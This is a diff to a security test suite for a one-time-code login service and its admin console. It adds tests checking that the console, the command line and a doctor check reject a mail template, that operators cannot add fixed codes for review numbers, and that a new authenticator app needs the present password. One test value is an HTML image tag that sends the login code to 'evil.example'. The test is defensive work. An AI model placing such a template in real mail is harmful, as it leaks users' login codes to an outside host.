@@ -1,10 +1,15 @@
+import { writeFileSync } from 'node:fs'
+import { join } from 'node:path'
 import { readConfig } from '../../src/config/config.ts'
 import { openContext } from '../../src/context.ts'
-import { addAccount, nextStep } from '../support/accounts.ts'
+import { setText } from '../../src/domain/operator/texts.ts'
+import { addAccount, codeOf as codeOfApp, hidden, nextStep } from '../support/accounts.ts'
 import { password, passwordHash, Visitor } from '../support/console.ts'
+import { temporaryFolder } from '../support/folder.ts'
+import { tester } from '../support/operator.ts'
 import { programEnv, programLine } from '../support/program.ts'
 import { otpost } from '../support/server.ts'
-import { type Attack, attack, behindProxy, hasWarned, type Target } from './attack.ts'
+import { type Attack, attack, behindProxy, doctorWarns, hasWarned, type Target } from './attack.ts'
 
 const withPassword = { ADMIN_PASSWORD_HASH: passwordHash, ...behindProxy }
 const wrong = { password: 'not the password' }
@@ -23,7 +28,88 @@ async function isAccepted(word: string): Promise<boolean> {
   return (await Bun.spawn(programLine(['admin', 'password']), { env: programEnv(), ...stdio }).exited) === 0
 }
 
+/** Loads its image from another server. */
+const leakingHtml = '<p>Welcome</p><img src="https://evil.example/?c={{otp}}">'
+
+async function codeOf(target: Target, to: string): Promise<string> {
+  return /\d{6}/.exec((await target.messages(to)).at(-1)?.text ?? '')?.[0] ?? ''
+}
+
 export const consoleAttacks: readonly Attack[] = [
+  attack(
+    'a code in the image URL of a mail, stored in the console, by a command or by an earlier version',
+    withPassword,
+    async (target, check) => {
+      const parts = { lang: 'en', subject: 'Code', text: '{{otp}}', html: leakingHtml }
+      const mailText = { ...parts, channel: 'EMAIL' as const }
+      const visitor = await browser(target).enter()
+      const form = { ...mailText, templateKey: 'LOGIN_OTP', version: '0' }
+      const { status } = await visitor.post('/admin/brands/acme/texts', form)
+      check(status === 409, `the console: ${status}`)
+      const folder = temporaryFolder()
+      const file = join(folder.path, 'mail')
+      writeFileSync(file, leakingHtml)
+      const set = ['text', 'set', 'acme', 'LOGIN_OTP', '--email', '--subject', 'Code']
+      const { code } = await otpost([...set, '--file', file, '--html', file], target.env)
+      folder.remove()
+      check(code !== 0, 'the command stores it')
+      const context = await openContext(readConfig(target.env))
+      const unchecked = { ...context.acting(tester), textBeforeCode: () => '' }
+      await setText(unchecked, { brand: 'acme', key: 'LOGIN_OTP', ...mailText })
+      await context.close()
+      const email = 'jo@example.com'
+      await target.post('/otp/send', { channel: 'EMAIL', email })
+      const [mail] = await target.messages(email)
+      check(mail !== undefined && !JSON.stringify(mail).includes('evil.example'), 'it is sent')
+      check(await doctorWarns(target, /acme.*otp.*text set/), 'doctor reports nothing')
+    },
+  ),
+  attack(
+    'a fixed code for the phone of a customer, by an operator, an owner and a command',
+    { ...withPassword, PUBLIC_URL: 'http://localhost:3000' },
+    async (target, check) => {
+      const phone = '+44 7911 123456'
+      await target.post('/otp/send', { phone })
+      const verified = await target.post('/otp/verify', { phone, otp: await codeOf(target, phone) })
+      check(verified.status === 200, `the customer cannot verify: ${verified.status}`)
+      const until = new Date().toISOString().slice(0, 10)
+      const fields = { phone: '00447911123456', brand: 'acme', until }
+      const owner = await browser(target).enter()
+      const added = await owner.post('/admin/review-numbers', fields)
+      check(added.status === 409, `an owner: ${added.status}`)
+      const add = ['review-number', 'add', phone, '--brand', 'second', '--until', until]
+      check((await otpost(add, target.env)).code !== 0, 'the command adds it')
+      const context = await openContext(readConfig(target.env))
+      const clock = { now: Date.now() }
+      const ana = await addAccount({ app: { context }, clock }, 'ana@example.com', 'operator')
+      await context.close()
+      const visitor = browser(target)
+      const next = await nextStep(visitor, ana.email)
+      await visitor.post('/admin/login/code', { next, code: ana.code() })
+      await visitor.get('/admin')
+      const other = await visitor.post('/admin/review-numbers', { ...fields, phone: '+44 7911 654321' })
+      check(other.status === 403, `an operator, with another number: ${other.status}`)
+    },
+  ),
+  attack(
+    "a new authenticator app and password for an operator's open session",
+    behindProxy,
+    async (target, check) => {
+      const context = await openContext(readConfig(target.env))
+      const clock = { now: Date.now() }
+      const ana = await addAccount({ app: { context }, clock }, 'ana@example.com', 'operator')
+      const visitor = browser(target)
+      const next = await nextStep(visitor, ana.email)
+      await visitor.post('/admin/login/code', { next, code: ana.code() })
+      const { html } = await visitor.get('/admin/account')
+      const secret = hidden(html, 'secret')
+      const uri = context.consoleSecrets.totpUri(ana, secret, 'localhost') ?? ''
+      await context.close()
+      const fields = { secret, code: codeOfApp(uri, Date.now()), password: 'vessel-19-quartz-lantern' }
+      const { status } = await visitor.post('/admin/account/app', fields)
+      check(status === 409, `without the present password: ${status}`)
+    },
+  ),
   {
     title: 'weak passwords for the console',
     async play(check) {
